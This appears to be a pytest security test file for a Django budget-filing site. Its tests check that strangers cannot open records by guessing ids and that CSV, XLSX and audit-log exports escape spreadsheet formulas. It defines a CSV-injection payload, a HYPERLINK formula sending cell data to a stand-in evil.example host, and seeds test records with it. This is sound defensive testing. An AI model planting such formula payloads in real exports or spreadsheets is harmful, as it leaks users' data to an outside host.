"""What leaves the site (数据泄露): ids tried one after the other, and texts that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Callable
from typing import Any

import openpyxl
import pytest
from django.db import transaction
from django.test import Client
from django.utils import timezone
from every_address import every_ask
from scene import set_scene

from factories import World, make_filing, make_grant, make_person, make_project
from hengxiao.base.enums import Role, Scope
from hengxiao.base.models import Delegation, FactorReset, Post
from hengxiao.cycle.documents import LISTS, Document
from hengxiao.cycle.models import (
    CellNote,
    Filing,
    FilingVersion,
    LibraryIndicator,
    Project,
    PublicWaiver,
    Release,
    WithheldCell,
)
from hengxiao.cycle.publishing import FORMULA, safe_cell
from under_way import sound_document

ClientOf = Callable[[str], Client]
THINGS = (Filing, Project, FilingVersion, Release, WithheldCell, CellNote, PublicWaiver, Delegation, FactorReset, Post)
OF_ALL = (
    "cycle:portal",
    "cycle:library_indicator",
)  # the portal's ids have their own test; common indicators are common
CLOSED = {302, 403, 404, 405, 409, 422}
STARTS = ("=", "+", "-", "@", "\t", "＝", "＋", "－", "＠")
ATTACK = '=HYPERLINK("https://evil.example/?"&A1)'


def stranger(world: World) -> Client:
    """Somebody with every role that has a reach, in the other department and in another unit of the same one."""
    person = make_person("stranger", world.other_unit)
    for role in (Role.FILLER, Role.UNIT_REVIEWER, Role.EVALUATOR, Role.EXPERT):
        make_grant(person, role, world.second_unit, Scope.UNIT)
        make_grant(person, role, world.other_unit, Scope.UNIT)
    for role in (Role.DEPARTMENT_FINANCE, Role.FINANCE_BUSINESS, Role.FINANCE_PERFORMANCE, Role.AUDITOR):
        make_grant(person, role, world.other_department, Scope.SUBTREE)
    client = Client(raise_request_exception=False)
    client.force_login(person, backend="django.contrib.auth.backends.ModelBackend")
    return client


def ids() -> list[int]:
    """The ids of every kind of thing an address may name, and one there is not."""
    known = {int(pk) for model in THINGS for pk in model.objects.order_by("pk").values_list("pk", flat=True)[:16]}
    return sorted({*known, max(known) + 1})


@pytest.mark.slow
def test_no_id_opens_anything_out_of_reach(world: World, settings: Any) -> None:
    settings.SESSION_ENGINE = "django.contrib.sessions.backends.signed_cookies"
    scene = set_scene(world)
    client, numbers = stranger(world), ids()
    names = re.compile("|".join([*map(re.escape, Project.objects.values_list("name", flat=True)), "综合事务工作经费"]))
    asked = [ask for ask in every_ask(scene) if re.search(r"/\d+/", ask.path) and not ask.of_the_library]
    asked = [ask for ask in asked if not ask.page.startswith("cycle:portal")]
    common = {
        ("cycle:library_indicator", pk)
        for pk in LibraryIndicator.objects.filter(organisation=None).values_list("pk", flat=True)
    }  # open to all business
    opened, told, tried = [], [], 0
    for ask in asked:
        own = int(re.findall(r"/(\d+)/", ask.path)[0])
        for number in {*numbers, own}:
            path = re.sub(r"/\d+/", f"/{number}/", ask.path, count=1)
            with transaction.atomic():
                answer = client.get(path) if ask.method == "GET" else client.post(path, ask.data())
                transaction.set_rollback(True)
            tried += 1
            if (ask.key, number) in common:
                continue
            if answer.status_code not in CLOSED or (answer.status_code == 302 and answer["Location"] != "/"):
                opened.append((ask.key, number, answer.status_code))
            if names.search(answer.content.decode()):
                told.append((ask.key, number))
    assert (opened, told, tried > 1000) == ([], [], True)


@pytest.mark.parametrize("page", ["edit/", "edit/findings/", "edit/source/", "edit/statements/i1/"])
def test_own_reach_opens_only_ones_own_drafts(world: World, client_of: ClientOf, page: str) -> None:
    others = make_filing(world, make_project(world, "P-1", "他人的项目"))
    own = make_filing(world, make_project(world, "P-2", "自己的项目"), created_by=world.people["own_filler"])
    client = client_of("own_filler")
    codes = [client.get(f"/cycle/filings/{each.pk}/{page}").status_code for each in (others, own)]
    assert codes == [404, 200]


def poisoned() -> Document:
    """A form in which every text begins with a sign that starts a formula."""
    document = sound_document()
    document["funds"] = [{"id": "f1", "label": "省级资金", "planned": "120.5", "unit": "万元"}]
    for kind in LISTS:
        for at, entry in enumerate(document[kind]):
            for name, value in entry.items():
                if isinstance(value, str) and name not in (
                    "id",
                    "term",
                    "goal",
                    "label",
                    "level1",
                    "level2",
                    "planned",
                ):
                    entry[name] = f"{STARTS[at % len(STARTS)]}{ATTACK[1:]}"
    document["project"]["name"] = ATTACK
    return document


def released(world: World) -> Release:
    filing = make_filing(world, make_project(world, "P-1", ATTACK), state="approved", document=poisoned())
    version = FilingVersion.objects.create(
        filing=filing, number=1, reason="approved", document=filing.document, digest="d", mark="0123456789ABCDEF",
        by=world.people["filler"],
    )  # fmt: skip
    return Release.objects.create(
        version=version, organisation=filing.organisation, state="released", released_at=timezone.now(),
        year=filing.year, public_name=filing.document["project"]["name"],
    )  # fmt: skip


def test_data_package_holds_no_formula(world: World) -> None:
    release = released(world)
    content = Client().get(f"/cycle/portal/releases/{release.pk}/package/").content
    package = zipfile.ZipFile(io.BytesIO(content))
    cells = [
        cell
        for name in package.namelist()
        if name.endswith(".csv")
        for line in csv.reader(io.StringIO(package.read(name).decode(), newline=""))
        for cell in line
    ]
    assert [cell for cell in cells if cell.startswith(FORMULA)] == []
    assert f"'{ATTACK}" in cells
    assert safe_cell("\r=1+1") == "'\r=1+1"  # a sign no cell of a form can hold, but other callers may bring
    whole = json.loads(package.read("record.json"))
    assert whole["form"]["project"]["name"] == ATTACK


@pytest.mark.parametrize("address", ["versions/{version}/print", "review/{filing}/print", "review/{change}/comparison"])
def test_workbooks_hold_texts_and_no_formula(world: World, client_of: ClientOf, address: str) -> None:
    version = released(world).version
    change = make_filing(
        world, version.filing.project, kind="adjustment", adjusts=version, document=sound_document() | {"funds": []}
    )
    given = {"version": version.pk, "filing": version.filing_id, "change": change.pk}
    answer = client_of("finance_performance").get(f"/cycle/{address.format(**given)}/xlsx/")
    assert answer.status_code == 200, re.findall("message.*", answer.content.decode())
    book = openpyxl.load_workbook(io.BytesIO(answer.content))
    cells = [cell for sheet in book for line in sheet.iter_rows() for cell in line if cell.value is not None]
    assert (len(cells) > 10, [cell.coordinate for cell in cells if cell.data_type == "f"]) == (True, [])
    assert any(str(cell.value).startswith(STARTS) for cell in cells)
    raw = zipfile.ZipFile(io.BytesIO(answer.content))
    assert [name for name in raw.namelist() if re.search(rb"<f[ >]|externalLink|<hyperlink ", raw.read(name))] == []


def test_log_is_lines_of_json_and_no_table(world: World, client_of: ClientOf) -> None:
    make_project(world, "P-1", ATTACK)
    client_of("system_admin").post("/base/holidays/decide/", {"day": "2027-02-08", "working": "no", "name": ATTACK})
    client = client_of("audit_admin")
    for page in ("export", "anchors"):
        answer = client.post(f"/base/audit/{page}/")
        assert (answer["Content-Type"], ".jsonl" in answer["Content-Disposition"]) == ("application/x-ndjson", True)
        lines = b"".join(answer.streaming_content).decode().splitlines()
        assert [json.loads(line)["kind"] for line in lines][-1] == "head"
